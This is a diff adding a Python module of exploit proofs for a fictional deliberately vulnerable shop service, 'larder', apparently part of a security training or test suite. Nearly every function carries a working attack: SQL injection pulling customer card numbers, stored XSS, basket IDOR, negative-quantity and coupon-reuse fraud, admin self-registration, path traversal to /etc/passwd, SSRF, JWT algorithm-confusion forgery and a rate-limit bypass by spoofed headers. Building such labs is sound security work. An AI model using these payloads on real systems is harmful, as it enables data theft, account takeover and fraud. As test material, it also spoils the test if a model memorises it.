@@ -1,0 +1,141 @@
+"""The exploits for the seventh set: one for each weakness, by service and name."""
+
+import base64
+import hashlib
+import hmac
+import json
+
+import common
+from third_proofs import called, proof, sign_in
+
+PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
+NEWCOMER = {"username": "dora.fern", "email": "dora@west.example", "password": "willow-Meadow-26"}
+MARKUP = "<img src=x onerror=alert(1)>"
+
+
+def sealed(header, claims, key):
+    """A JWT that is signed by HMAC with this key."""
+    parts = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=") for part in (header, claims)]
+    content = b".".join(parts)
+    signature = base64.urlsafe_b64encode(hmac.new(key, content, hashlib.sha256).digest()).rstrip(b"=")
+    return (content + b"." + signature).decode()
+
+
+def claims_of(token):
+    """What a JWT holds."""
+    body = token.split(".")[1]
+    return json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
+
+
+# larder -----------------------------------------------------------------------------------------------------------------------------------
+
+
+def larder_entry(client, name, password=None, headers=None):
+    return client.post("/rest/user/login", json={"username": name, "password": password or PASSWORD[name]}, headers=headers)
+
+
+def larder_basket(client, caller):
+    return client.get("/rest/user/whoami", headers=caller).json()["basket"]
+
+
+@sign_in("larder")
+def _(client, name):
+    return {"Authorization": "Bearer " + larder_entry(client, name).json()["authentication"]["token"]}
+
+
+@proof("larder", "search-union")
+def _(client):
+    assert client.get("/rest/products/search", params={"q": "jam"}).json()["data"][0]["name"] == "Plum jam"
+    answer = client.get("/rest/products/search", params={"q": "none%') AND listed = 1) UNION SELECT 1, username, card, 2 FROM customers --"})
+    return "4929 " in answer.text and "olga" in answer.text
+
+
+@proof("larder", "review-markup")
+def _(client):
+    answer = client.post("/rest/products/2/reviews", json={"message": MARKUP, "rating": 3}, headers=client.as_("ann"))
+    assert answer.status_code == 201
+    page = client.get("/products/2")
+    assert "Rye loaf" in page.text
+    return MARKUP in page.text and "unsafe-inline" in page.headers["content-security-policy"]
+
+
+@proof("larder", "review-author")
+def _(client):
+    answer = client.post("/rest/products/2/reviews", json={"message": "Stale", "rating": 1, "author": "ben"}, headers=client.as_("ann"))
+    assert answer.status_code == 201
+    return [entry["author"] for entry in client.get("/rest/products/2/reviews").json()["data"]] == ["ben"]
+
+
+@proof("larder", "basket-read")
+def _(client):
+    ann, ben = client.as_("ann"), client.as_("ben")
+    number = larder_basket(client, ann)
+    assert client.get(f"/rest/basket/{number}", headers=ann).json()["owner"] == "ann"
+    return client.get(f"/rest/basket/{number}", headers=ben).json().get("owner") == "ann"
+
+
+@proof("larder", "quantity-negative")
+def _(client):
+    ann = client.as_("ann")
+    number = larder_basket(client, ann)
+    before = client.get("/rest/wallet", headers=ann).json()["balance"]
+    item = client.get(f"/rest/basket/{number}", headers=ann).json()["items"][0]["id"]
+    assert client.post("/api/basket-items", json={"basketId": number, "productId": 1, "quantity": -5}, headers=ann).status_code == 422
+    client.put(f"/api/basket-items/{item}", json={"quantity": -50}, headers=ann)
+    assert client.post(f"/rest/basket/{number}/checkout", json={"street": "Mill Lane 4"}, headers=ann).status_code == 201
+    return client.get("/rest/wallet", headers=ann).json()["balance"] > before
+
+
+@proof("larder", "coupon-again")
+def _(client):
+    ann = client.as_("ann")
+    path = f"/rest/basket/{larder_basket(client, ann)}/coupon"
+    assert client.post(path, json={"code": "HARVEST15"}, headers=ann).json()["discount"] == 15
+    for _ in range(3):
+        client.post(path, json={"code": "HARVEST15"}, headers=ann)
+    return client.get(path.removesuffix("/coupon"), headers=ann).json()["discount"] == 60
+
+
+@proof("larder", "register-role")
+def _(client):
+    assert client.get("/api/users", headers=client.as_("ann")).status_code == 403
+    assert client.post("/api/users", json=NEWCOMER | {"role": "admin"}).status_code == 201
+    caller = {"Authorization": "Bearer " + larder_entry(client, NEWCOMER["username"], NEWCOMER["password"]).json()["authentication"]["token"]}
+    return client.get("/api/users", headers=caller).status_code == 200
+
+
+@proof("larder", "downloads-strip")
+def _(client):
+    assert "Terms" in client.get("/downloads", params={"file": "terms.md"}).text
+    assert "root:x" not in client.get("/downloads", params={"file": "../../../etc/passwd"}).text
+    return "root:x" in client.get("/downloads", params={"file": "....//....//....//etc/passwd"}).text
+
+
+@proof("larder", "avatar-url")
+def _(client):
+    ann = client.as_("ann")
+    with called() as (url, requests, _):
+        client.put("/rest/user/avatar", json={"imageUrl": url}, headers=ann)
+        return len(requests) == 1 and client.get("/rest/user/avatar", headers=ann).text == "inner"
+
+
+@proof("larder", "token-confusion")
+def _(client):
+    claims = claims_of(client.as_("ann")["Authorization"])
+    key = client.get("/rest/keys/jwt.pub").content
+    forged = sealed({"alg": "HS256", "typ": "JWT"}, claims | {"sub": "olga"}, key)
+    return client.get("/api/users", headers={"Authorization": f"Bearer {forged}"}).status_code == 200
+
+
+@proof("larder", "login-forwarded")
+def _(client):
+    statuses = [larder_entry(client, "ben", f"wrong-{number}", {"X-Forwarded-For": f"10.1.0.{number}"}).status_code for number in range(25)]
+    return set(statuses) == {401} and larder_entry(client, "ben").status_code == 200
+
+
+@proof("larder", "redirect-contains")
+def _(client):
+    assert client.get("/redirect", params={"to": "https://pay.larder.example/start"}).status_code == 302
+    assert client.get("/redirect", params={"to": "https://elsewhere.example/"}).status_code == 406
+    answer = client.get("/redirect", params={"to": "https://elsewhere.example/?from=https://pay.larder.example/"})
+    return answer.headers.get("location", "").startswith("https://elsewhere.example/")
